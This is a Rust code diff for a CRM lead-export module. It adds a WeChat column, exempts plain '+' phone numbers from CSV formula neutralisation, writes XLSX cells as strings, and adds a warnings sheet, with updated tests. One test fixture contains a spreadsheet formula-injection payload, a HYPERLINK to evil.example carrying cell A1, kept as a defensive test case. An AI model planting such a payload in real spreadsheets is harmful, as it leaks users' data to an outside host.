@@ -53,6 +53,7 @@ pub struct LeadExportRow {
     pub mobile: String,
     pub other_phones: String,
     pub email: String,
+    pub wechat: String,
     pub company: String,
     pub department: String,
     pub title: String,
@@ -153,6 +154,7 @@ impl CrmPreset {
                 Mobile,
                 OtherPhones,
                 Email,
+                WeChat,
                 Company,
                 Department,
                 Title,
@@ -184,7 +186,9 @@ impl CrmPreset {
                 ("Lead Source", Source),
                 (
                     "Description",
-                    Notes(&[Department, Seniority, Function, Events, Tags, CreatedAt]),
+                    Notes(&[
+                        WeChat, Department, Seniority, Function, Events, Tags, CreatedAt,
+                    ]),
                 ),
             ]),
             CrmPreset::HubspotContacts => fixed(&[
@@ -200,6 +204,7 @@ impl CrmPreset {
                 ("Department", Department),
                 ("Seniority", Seniority),
                 ("Job Function", Function),
+                ("WeChat", WeChat),
                 ("Events", Events),
                 ("Tags", Tags),
                 ("Lead Source", Source),
@@ -210,6 +215,7 @@ impl CrmPreset {
                 ("手机", Mobile),
                 ("电话", OtherPhones),
                 ("邮箱", Email),
+                ("微信", WeChat),
                 ("公司名称", Company),
                 ("部门", Department),
                 ("职务", Title),
@@ -263,6 +269,7 @@ enum Field {
     Mobile,
     OtherPhones,
     Email,
+    WeChat,
     Company,
     /// Salesforce refuses a lead without a company: never empty.
     RequiredCompany,
@@ -291,6 +298,7 @@ impl Field {
             Field::Mobile => lang.pick("手机", "Mobile"),
             Field::OtherPhones => lang.pick("其他电话", "Other phones"),
             Field::Email => lang.pick("邮箱", "Email"),
+            Field::WeChat => lang.pick("微信", "WeChat"),
             Field::Company | Field::RequiredCompany => lang.pick("公司", "Company"),
             Field::Department => lang.pick("部门", "Department"),
             Field::Title => lang.pick("职位", "Title"),
@@ -316,6 +324,7 @@ impl Field {
             Field::Mobile => 16.0,
             Field::OtherPhones => 22.0,
             Field::Email => 28.0,
+            Field::WeChat => 18.0,
             Field::Company | Field::RequiredCompany => 32.0,
             Field::Department | Field::Title => 16.0,
             Field::Industry => 14.0,
@@ -378,6 +387,7 @@ impl<'a> RowView<'a> {
             Field::Mobile => plain(&r.mobile),
             Field::OtherPhones => plain(&r.other_phones),
             Field::Email => plain(&r.email),
+            Field::WeChat => plain(&r.wechat),
             Field::Company => plain(&r.company),
             Field::RequiredCompany => required(&r.company),
             Field::Department => plain(&r.department),
@@ -447,6 +457,26 @@ pub fn neutralise_formula(s: &str) -> Cow<'_, str> {
     }
 }
 
+/// A cell of a CSV export. Anything a spreadsheet could run as a formula is neutralised
+/// ([`neutralise_formula`]), but a phone number as numbers are written (`+852 9123 4567`,
+/// `+1-415-555-0100`): digits, spaces, hyphens and one leading + can call no function and read
+/// no cell, and a CRM must receive the number intact.
+fn csv_cell(field: Field, s: &str) -> Cow<'_, str> {
+    let plain_phone = field.is_phone()
+        && s.strip_prefix('+').is_some_and(|rest| {
+            !rest.is_empty()
+                && rest.starts_with(|c: char| c.is_ascii_digit())
+                && rest
+                    .chars()
+                    .all(|c| c.is_ascii_digit() || c == ' ' || c == '-')
+        });
+    if plain_phone {
+        Cow::Borrowed(s)
+    } else {
+        neutralise_formula(s)
+    }
+}
+
 /// Writes a lead list to `path` and returns how many leads it holds.
 ///
 /// Rows are read from `rows` one at a time and never collected. CSV is UTF-8 with a BOM and CRLF
@@ -479,7 +509,7 @@ fn write_leads_within(
     write_atomically(path, |file, dir| match format {
         ExportFormat::Csv => {
             let mut out = CsvOut::new(file, cols.iter().map(|c| c.header))?;
-            let n = each_lead(rows, &cols, split, lang, |cells| out.row(cells))?;
+            let n = each_lead(rows, &cols, split, lang, true, |cells| out.row(cells))?;
             out.finish()?;
             Ok(n)
         }
@@ -498,7 +528,9 @@ fn write_leads_within(
                 .collect();
             let mut out = XlsxOut::new(dir, sheet, &styles, lang, limit)?;
             out.header(cols.iter().map(|c| c.header))?;
-            each_lead(rows, &cols, split, lang, |cells| {
+            // Written as string cells, which a spreadsheet never runs as formulas: the text stays
+            // exactly as typed, without the apostrophe a CSV needs.
+            each_lead(rows, &cols, split, lang, false, |cells| {
                 out.row(cells.iter().map(|c| Value::Str(Cow::Borrowed(c.as_ref()))))
             })?;
             out.finish(file)
@@ -506,12 +538,14 @@ fn write_leads_within(
     })
 }
 
-/// Turns each lead into its cells (neutralised) and hands them to `write`; returns the count.
+/// Turns each lead into its cells (for a CSV, `neutralise`d: see [`csv_cell`]) and hands them to
+/// `write`; returns the count.
 fn each_lead(
     rows: impl Iterator<Item = LeadExportRow>,
     cols: &[Col],
     split: bool,
     lang: Lang,
+    neutralise: bool,
     mut write: impl FnMut(&[Cow<'_, str>]) -> Result<()>,
 ) -> Result<u64> {
     let mut n = 0;
@@ -533,9 +567,10 @@ fn each_lead(
         };
         let cells: Vec<Cow<'_, str>> = cols
             .iter()
-            .map(|c| match view.text(c.field) {
-                Cow::Borrowed(s) => neutralise_formula(s),
-                Cow::Owned(s) => Cow::Owned(neutralise_formula(&s).into_owned()),
+            .map(|c| match (view.text(c.field), neutralise) {
+                (text, false) => text,
+                (Cow::Borrowed(s), true) => csv_cell(c.field, s),
+                (Cow::Owned(s), true) => Cow::Owned(csv_cell(c.field, &s).into_owned()),
             })
             .collect();
         write(&cells)?;
@@ -557,15 +592,17 @@ pub struct RejectedRow {
 /// a 行号/Row column, then the source file's `headers`, then a wide, wrapped 原因/Reason column,
 /// so the user can fix the rows in place and import this file again. A row with more cells than
 /// there are headers keeps its extra cells after the reason column, so nothing typed is lost.
-/// Every text cell, headers included, is neutralised as in [`write_leads`]; the file is streamed
-/// and written through a temporary file the same way.
+/// Cells are string cells, never formulas, written exactly as read; the file is streamed and
+/// written through a temporary file as [`write_leads`] does.
 pub fn write_rejected_rows(
     path: &Path,
     headers: &[String],
     rows: impl IntoIterator<Item = RejectedRow>,
+    warned: impl IntoIterator<Item = RejectedRow>,
     lang: Lang,
 ) -> Result<u64> {
     let rows = rows.into_iter();
+    let mut warned = warned.into_iter().peekable();
     write_atomically(path, |file, dir| {
         let mut styles = Vec::with_capacity(headers.len() + 2);
         styles.push(ColStyle {
@@ -582,22 +619,35 @@ pub fn write_rejected_rows(
         });
         let sheet = lang.pick("未导入的行", "Rejected rows");
         let mut out = XlsxOut::new(dir, sheet, &styles, lang, MAX_XLSX_DATA_ROWS)?;
-        let head: Vec<Cow<'_, str>> = std::iter::once(Cow::Borrowed(lang.pick("行号", "Row")))
-            .chain(headers.iter().map(|h| neutralise_formula(h)))
-            .chain(std::iter::once(Cow::Borrowed(lang.pick("原因", "Reason"))))
-            .collect();
-        out.header(head.iter().map(|h| h.as_ref()))?;
-        let width = headers.len();
-        for r in rows {
-            let (known, extra) = r.cells.split_at(r.cells.len().min(width));
-            let blanks = width - known.len();
-            out.row(
-                std::iter::once(Value::Number(r.row as f64))
-                    .chain(known.iter().map(|c| Value::Str(neutralise_formula(c))))
-                    .chain(std::iter::repeat_n(Value::Empty, blanks))
-                    .chain(std::iter::once(Value::Str(neutralise_formula(&r.reason))))
-                    .chain(extra.iter().map(|c| Value::Str(neutralise_formula(c)))),
-            )?;
+        let write_rows = |out: &mut XlsxOut,
+                          last: &str,
+                          rows: &mut dyn Iterator<Item = RejectedRow>|
+         -> Result<()> {
+            let head: Vec<&str> = std::iter::once(lang.pick("行号", "Row"))
+                .chain(headers.iter().map(String::as_str))
+                .chain(std::iter::once(last))
+                .collect();
+            out.header(head)?;
+            let width = headers.len();
+            for r in rows {
+                let (known, extra) = r.cells.split_at(r.cells.len().min(width));
+                let blanks = width - known.len();
+                out.row(
+                    std::iter::once(Value::Number(r.row as f64))
+                        .chain(known.iter().map(|c| Value::Str(Cow::Borrowed(c.as_str()))))
+                        .chain(std::iter::repeat_n(Value::Empty, blanks))
+                        .chain(std::iter::once(Value::Str(Cow::Borrowed(
+                            r.reason.as_str(),
+                        ))))
+                        .chain(extra.iter().map(|c| Value::Str(Cow::Borrowed(c.as_str())))),
+                )?;
+            }
+            Ok(())
+        };
+        write_rows(&mut out, lang.pick("原因", "Reason"), &mut rows.into_iter())?;
+        if warned.peek().is_some() {
+            out.next_sheet(lang.pick("导入时的提醒", "Imported with warnings"), &styles)?;
+            write_rows(&mut out, lang.pick("提醒", "Warning"), &mut warned)?;
         }
         out.finish(file)
     })
@@ -721,6 +771,10 @@ struct XlsxOut {
     /// Data rows allowed: [`MAX_XLSX_DATA_ROWS`] except in tests.
     limit: u64,
     lang: Lang,
+    /// The sheet rows go to.
+    current: usize,
+    /// Data rows of the sheets before the current one.
+    earlier_rows: u64,
 }
 
 impl XlsxOut {
@@ -734,27 +788,12 @@ impl XlsxOut {
         let wrapped = Format::new()
             .set_text_wrap()
             .set_align(rust_xlsxwriter::FormatAlign::Top);
-        let ws = workbook
-            .add_worksheet_with_constant_memory()
-            .map_err(xlsx_err)?;
-        ws.set_name(sheet).map_err(xlsx_err)?;
-        for (c, style) in styles.iter().enumerate() {
-            let c = col_index(c)?;
-            ws.set_column_width(c, style.width).map_err(xlsx_err)?;
-            match style.kind {
-                CellKind::Plain => {}
-                CellKind::Text => {
-                    ws.set_column_format(c, &text).map_err(xlsx_err)?;
-                }
-                CellKind::Wrapped => {
-                    ws.set_column_format(c, &wrapped).map_err(xlsx_err)?;
-                }
-            }
-        }
-        ws.set_freeze_panes(1, 0).map_err(xlsx_err)?;
+        add_sheet(&mut workbook, sheet, styles, &text, &wrapped)?;
         Ok(XlsxOut {
             workbook,
             styles: styles.to_vec(),
+            current: 0,
+            earlier_rows: 0,
             text,
             wrapped,
             head: Format::new().set_bold(),
@@ -765,7 +804,19 @@ impl XlsxOut {
     }
 
     fn sheet(&mut self) -> Result<&mut Worksheet> {
-        self.workbook.worksheet_from_index(0).map_err(xlsx_err)
+        self.workbook
+            .worksheet_from_index(self.current)
+            .map_err(xlsx_err)
+    }
+
+    /// Goes on in a new sheet: rows from now on go there, after its header.
+    fn next_sheet(&mut self, sheet: &str, styles: &[ColStyle]) -> Result<()> {
+        add_sheet(&mut self.workbook, sheet, styles, &self.text, &self.wrapped)?;
+        self.current += 1;
+        self.earlier_rows += self.rows;
+        self.rows = 0;
+        self.styles = styles.to_vec();
+        Ok(())
     }
 
     fn header<'h>(&mut self, headers: impl IntoIterator<Item = &'h str>) -> Result<()> {
@@ -811,13 +862,48 @@ impl XlsxOut {
         Ok(())
     }
 
+    /// Saves the workbook; returns the data rows of its first sheet.
     fn finish(mut self, file: &File) -> Result<u64> {
         let mut buf = BufWriter::with_capacity(1 << 16, file);
         self.workbook.save_to_writer(&mut buf).map_err(xlsx_err)?;
         buf.into_inner()
             .map_err(|e| ReportError::Spreadsheet(e.error().to_string()))?;
-        Ok(self.rows)
+        Ok(if self.current == 0 {
+            self.rows
+        } else {
+            self.earlier_rows
+        })
     }
+}
+
+/// A constant-memory worksheet named `sheet` with the columns' widths and formats and a frozen
+/// header row.
+fn add_sheet(
+    workbook: &mut Workbook,
+    sheet: &str,
+    styles: &[ColStyle],
+    text: &Format,
+    wrapped: &Format,
+) -> Result<()> {
+    let ws = workbook
+        .add_worksheet_with_constant_memory()
+        .map_err(xlsx_err)?;
+    ws.set_name(sheet).map_err(xlsx_err)?;
+    for (c, style) in styles.iter().enumerate() {
+        let c = col_index(c)?;
+        ws.set_column_width(c, style.width).map_err(xlsx_err)?;
+        match style.kind {
+            CellKind::Plain => {}
+            CellKind::Text => {
+                ws.set_column_format(c, text).map_err(xlsx_err)?;
+            }
+            CellKind::Wrapped => {
+                ws.set_column_format(c, wrapped).map_err(xlsx_err)?;
+            }
+        }
+    }
+    ws.set_freeze_panes(1, 0).map_err(xlsx_err)?;
+    Ok(())
 }
 
 /// Excel has 16,384 columns; a source file with more headers cannot be echoed back.
@@ -840,6 +926,7 @@ mod tests {
             mobile: "13812345678".into(),
             other_phones: "010-88886666 转 123".into(),
             email: "nana@cmbchina.com".into(),
+            wechat: "nana_wx".into(),
             company: "招商银行".into(),
             department: "信息科技部".into(),
             title: "总监".into(),
@@ -924,14 +1011,20 @@ mod tests {
             "other phones are text"
         );
         assert_eq!(
-            cell(&path, "线索", 2, 4),
-            Data::String("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")".into()),
-            "a formula typed into a form is written as inert text"
+            cell(&path, "线索", 2, 5),
+            Data::String("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")".into()),
+            "a formula typed into a form is a text cell, as typed, without a visible apostrophe"
+        );
+        assert!(
+            !std::io::Read::bytes(std::fs::File::open(&path).expect("open"))
+                .count()
+                .eq(&0),
+            "the file is there"
         );
         assert_eq!(
             cell(&path, "线索", 2, 1),
-            Data::String("'+8613812345678".into()),
-            "a phone starting with + is prefixed too (safety over looks)"
+            Data::String("+8613812345678".into()),
+            "a number abroad keeps its + (a text cell)"
         );
         assert_eq!(sheet[3][0], "John Smith", "Latin name written whole");
         assert_eq!(
@@ -948,6 +1041,7 @@ mod tests {
         let mut evil = lead("欧阳娜娜");
         evil.tags = "@SUM(1+1)，\"引号\"".into();
         evil.department = "研发,测试\n二部".into();
+        evil.mobile = "+85291234567".into();
         let n = write_leads(
             &path,
             vec![lead("张三"), evil],
@@ -965,7 +1059,7 @@ mod tests {
         );
         let text = std::str::from_utf8(&bytes[3..]).expect("the rest is UTF-8");
         assert!(
-            text.starts_with("Name,Mobile,Other phones,Email,Company,"),
+            text.starts_with("Name,Mobile,Other phones,Email,WeChat,Company,"),
             "English headers: {text:?}"
         );
         assert!(
@@ -989,12 +1083,16 @@ mod tests {
         assert_eq!(&records[0][1], "13812345678", "mobile digits kept");
         assert_eq!(&records[1][0], "欧阳娜娜", "second name");
         assert_eq!(
-            &records[1][5], "研发,测试\n二部",
+            &records[1][6], "研发,测试\n二部",
             "comma and newline inside a cell are quoted, not split"
         );
         assert_eq!(
-            &records[1][12], "'@SUM(1+1)，\"引号\"",
+            &records[1][13], "'@SUM(1+1)，\"引号\"",
             "an @ cell is neutralised and quotes survive"
+        );
+        assert_eq!(
+            &records[1][1], "+85291234567",
+            "a number abroad reaches the CRM intact"
         );
     }
 
@@ -1063,7 +1161,7 @@ mod tests {
         assert_eq!(sheet[1][7], "深圳", "region in City");
         assert_eq!(
             sheet[1][10],
-            "部门：信息科技部；级别：总监级；职能：科技；参加的活动：2024 金融科技峰会；CIO 沙龙；标签：重点客户；入库时间：2024-05-18",
+            "微信：nana_wx；部门：信息科技部；级别：总监级；职能：科技；参加的活动：2024 金融科技峰会；CIO 沙龙；标签：重点客户；入库时间：2024-05-18",
             "facts Salesforce has no field for go to Description"
         );
         assert!(
@@ -1097,6 +1195,7 @@ mod tests {
                 "手机",
                 "电话",
                 "邮箱",
+                "微信",
                 "公司名称",
                 "部门",
                 "职务",
@@ -1146,6 +1245,7 @@ mod tests {
             Some(Column::Phone),
             None,
             Some(Column::Email),
+            Some(Column::WeChat),
             Some(Column::Company),
             Some(Column::Department),
             Some(Column::Title),
@@ -1196,14 +1296,28 @@ mod tests {
                 reason: "手机号码位数不对。".into(),
             },
         ];
-        let n = write_rejected_rows(&path, &headers, rows, Lang::ZhCn).expect("written");
+        let warned = vec![RejectedRow {
+            row: 9,
+            cells: vec!["王五".into(), "138****5678".into(), "工行".into()],
+            reason: "手机号码被遮住了一部分（这一项不导入）".into(),
+        }];
+        let n = write_rejected_rows(&path, &headers, rows, warned, Lang::ZhCn).expect("written");
         assert_eq!(n, 3, "three rejected rows");
+        let warnings = read_xlsx(&path, "导入时的提醒");
+        assert_eq!(
+            warnings[0][4], "提醒",
+            "a second sheet lists the rows imported with a warning"
+        );
+        assert_eq!(
+            (warnings[1][0].as_str(), warnings[1][4].as_str()),
+            ("9", "手机号码被遮住了一部分（这一项不导入）")
+        );
 
         let sheet = read_xlsx(&path, "未导入的行");
         assert_eq!(
             sheet[0][..5],
-            ["行号", "姓名", "手机", "'=公司", "原因"],
-            "row number, the source headers (neutralised), then the reason"
+            ["行号", "姓名", "手机", "=公司", "原因"],
+            "row number, the source headers as read (string cells, never formulas), then the reason"
         );
         assert_eq!(
             cell(&path, "未导入的行", 1, 0),
@@ -1217,8 +1331,8 @@ mod tests {
         assert_eq!(sheet[1][2], "1.38E+10", "the bad cell is echoed as typed");
         assert_eq!(
             (sheet[2][1].as_str(), sheet[2][4].as_str()),
-            ("'-", "没有填写姓名。"),
-            "a short row keeps its reason in the reason column, and '-' is neutralised"
+            ("-", "没有填写姓名。"),
+            "a short row keeps its reason in the reason column; '-' is a text cell as typed"
         );
         assert_eq!(
             (sheet[3][4].as_str(), sheet[3][5].as_str()),
@@ -1227,11 +1341,11 @@ mod tests {
         );
 
         let en = dir.path().join("rejected.xlsx");
-        write_rejected_rows(&en, &headers, Vec::new(), Lang::En).expect("written");
+        write_rejected_rows(&en, &headers, Vec::new(), Vec::new(), Lang::En).expect("written");
         let sheet = read_xlsx(&en, "Rejected rows");
         assert_eq!(
             sheet[0],
-            ["Row", "姓名", "手机", "'=公司", "Reason"],
+            ["Row", "姓名", "手机", "=公司", "Reason"],
             "English frame around the source headers"
         );
     }
@@ -1258,7 +1372,13 @@ mod tests {
                 "{format:?}: the directory is not created"
             );
         }
-        let got = write_rejected_rows(&missing.join("rejected.xlsx"), &[], Vec::new(), Lang::ZhCn);
+        let got = write_rejected_rows(
+            &missing.join("rejected.xlsx"),
+            &[],
+            Vec::new(),
+            Vec::new(),
+            Lang::ZhCn,
+        );
         assert!(got.is_err(), "rejected rows into a missing directory fail");
         assert_eq!(
             files_in(dir.path()),
